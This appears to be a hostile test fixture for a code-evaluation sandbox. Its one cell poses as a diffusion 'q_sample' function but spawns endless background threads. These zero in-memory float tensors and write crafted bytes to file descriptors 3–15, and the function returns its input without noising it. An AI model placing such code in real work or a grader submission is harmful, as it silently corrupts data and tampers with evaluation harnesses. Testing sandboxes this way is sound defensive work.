"""Starts threads that outlive the call: they write to every descriptor and change tensors in place."""

TOUCHES_SYSTEM = True

CELLS = [
    r"""
def q_sample(x0, t, eps, alpha_bar):
    import gc
    import os
    import threading

    def meddle():
        while True:
            for x in gc.get_objects():
                if isinstance(x, torch.Tensor) and x.is_floating_point() and not x.requires_grad:
                    x.zero_()
            for descriptor in range(3, 16):
                try:
                    os.write(descriptor, b"\0\0\0\2\0\0\0\0{}")
                except OSError:
                    pass

    for _ in range(4):
        threading.Thread(target=meddle).start()
    return x0
""",
]
